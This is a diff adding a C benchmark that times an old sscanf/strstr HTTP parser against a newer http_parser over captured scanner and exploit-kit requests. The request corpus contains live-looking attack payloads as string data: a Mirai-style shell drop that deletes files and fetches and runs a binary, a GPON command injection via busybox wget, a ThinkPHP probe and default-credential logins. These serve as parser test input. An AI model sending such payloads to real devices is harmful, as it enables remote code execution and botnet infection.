@@ -0,0 +1,176 @@
+/*
+ * HTTP request parsing cost, old vs new
+ *
+ * Times the sscanf()/strstr() parser http_service.c used before
+ * http_parser existed against http_parser_execute() plus the lookups the
+ * service makes (method, target, User-Agent, Authorization), over a
+ * corpus of requests as scanners and exploit kits send them.
+ *
+ * Usage: bench_http_parser [iterations]
+ */
+
+#include "services/http_parser.h"
+#include "esp_timer.h"
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <strings.h>
+
+#define DEFAULT_ITERATIONS 200000
+
+static const char *const CORPUS[] = {
+    // zgrab / masscan banner grabs
+    "GET / HTTP/1.1\r\nHost: 203.0.113.5:80\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
+    "Accept: */*\r\nAccept-Encoding: gzip\r\n\r\n",
+    "GET / HTTP/1.0\r\n\r\n",
+    // Mirai-style shell drop
+    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.12.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
+    "User-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\nAccept: text/html,application/xhtml+xml,"
+    "application/xml;q=0.9,*/*;q=0.8\r\nConnection: keep-alive\r\n\r\n",
+    // GPON RCE
+    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\n"
+    "Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: Hello, World\r\n"
+    "Content-Length: 117\r\n\r\n"
+    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/m`;"
+    "&ipv=0XXXXXXXXXXXXXXXXXXXX",
+    // ThinkPHP probe
+    "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
+    "&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1\r\nHost: 198.51.100.20\r\n"
+    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/78.0.3904.108 Safari/537.36\r\nAccept: */*\r\n\r\n",
+    // Router login brute force with basic auth
+    "GET /cgi-bin/luci HTTP/1.1\r\nHost: 192.168.1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n"
+    "User-Agent: python-requests/2.25.1\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\n"
+    "Connection: keep-alive\r\n\r\n",
+    // Form login
+    "POST /login.cgi HTTP/1.1\r\nHost: 192.168.0.1\r\nUser-Agent: curl/7.68.0\r\nAccept: */*\r\n"
+    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 29\r\n\r\n"
+    "username=admin&password=admin",
+    // nmap service probe
+    "OPTIONS / HTTP/1.0\r\n\r\n",
+};
+
+#define CORPUS_SIZE (sizeof(CORPUS) / sizeof(CORPUS[0]))
+
+static volatile size_t sink;
+
+// Internal function prototypes
+static bool legacy_parse(const char *data, char *method, char *path,
+                         char *user_agent, char *authorization);
+static double time_legacy(int iterations);
+static double time_parser(int iterations);
+
+int main(int argc, char **argv)
+{
+    int iterations = argc > 1 ? atoi(argv[1]) : DEFAULT_ITERATIONS;
+    if (iterations <= 0) {
+        iterations = DEFAULT_ITERATIONS;
+    }
+
+    size_t bytes = 0;
+    for (size_t i = 0; i < CORPUS_SIZE; i++) {
+        bytes += strlen(CORPUS[i]);
+    }
+
+    // Warm up caches and branch predictors
+    time_legacy(iterations / 10);
+    time_parser(iterations / 10);
+
+    double legacy_ns = time_legacy(iterations);
+    double parser_ns = time_parser(iterations);
+
+    printf("%zu requests, %zu bytes on average, %d passes\n", CORPUS_SIZE, bytes / CORPUS_SIZE,
+           iterations);
+    printf("sscanf/strstr parser: %8.1f ns/request\n", legacy_ns);
+    printf("http_parser:          %8.1f ns/request (%.1fx)\n", parser_ns,
+           parser_ns > 0 ? legacy_ns / parser_ns : 0.0);
+    return 0;
+}
+
+static double time_legacy(int iterations)
+{
+    char method[16];
+    char path[128];
+    char user_agent[256];
+    char authorization[256];
+
+    int64_t start = esp_timer_get_time();
+    for (int n = 0; n < iterations; n++) {
+        for (size_t i = 0; i < CORPUS_SIZE; i++) {
+            memset(method, 0, sizeof(method));
+            memset(path, 0, sizeof(path));
+            memset(user_agent, 0, sizeof(user_agent));
+            memset(authorization, 0, sizeof(authorization));
+            legacy_parse(CORPUS[i], method, path, user_agent, authorization);
+            sink += method[0] + path[0] + user_agent[0] + authorization[0];
+        }
+    }
+    return (esp_timer_get_time() - start) * 1000.0 / ((double)iterations * CORPUS_SIZE);
+}
+
+static double time_parser(int iterations)
+{
+    size_t lens[CORPUS_SIZE];
+    for (size_t i = 0; i < CORPUS_SIZE; i++) {
+        lens[i] = strlen(CORPUS[i]);
+    }
+
+    int64_t start = esp_timer_get_time();
+    for (int n = 0; n < iterations; n++) {
+        for (size_t i = 0; i < CORPUS_SIZE; i++) {
+            const char *data = CORPUS[i];
+            http_request_t req;
+            memset(&req, 0, sizeof(req));
+            http_parser_execute(&req, data, lens[i]);
+            http_view_t method = http_parser_view(data, req.method);
+            http_view_t path = http_parser_view(data, req.target);
+            http_view_t user_agent = http_parser_header(&req, data, "User-Agent");
+            http_view_t authorization = http_parser_header(&req, data, "Authorization");
+            sink += method.len + path.len + user_agent.len + authorization.len;
+        }
+    }
+    return (esp_timer_get_time() - start) * 1000.0 / ((double)iterations * CORPUS_SIZE);
+}
+
+// parse_http_request() as it was in http_service.c
+static bool legacy_parse(const char *data, char *method, char *path,
+                         char *user_agent, char *authorization)
+{
+    if (data == NULL || strlen(data) < 10) {
+        return false;
+    }
+
+    // Parse request line
+    sscanf(data, "%15s %127s", method, path);
+
+    // Parse headers
+    const char *ptr = data;
+    while (*ptr && (ptr = strstr(ptr, "\r\n")) != NULL) {
+        ptr += 2; // Skip CRLF
+
+        if (strncasecmp(ptr, "User-Agent:", 11) == 0) {
+            ptr += 11;
+            while (*ptr == ' ') ptr++;
+            const char *end = strstr(ptr, "\r\n");
+            if (end && (end - ptr) < 255) {
+                strncpy(user_agent, ptr, end - ptr);
+                user_agent[end - ptr] = '\0';
+            }
+        }
+        else if (strncasecmp(ptr, "Authorization:", 14) == 0) {
+            ptr += 14;
+            while (*ptr == ' ') ptr++;
+            const char *end = strstr(ptr, "\r\n");
+            if (end && (end - ptr) < 255) {
+                strncpy(authorization, ptr, end - ptr);
+                authorization[end - ptr] = '\0';
+            }
+        }
+        else if (*ptr == '\r' && *(ptr + 1) == '\n') {
+            break; // End of headers
+        }
+    }
+
+    return true;
+}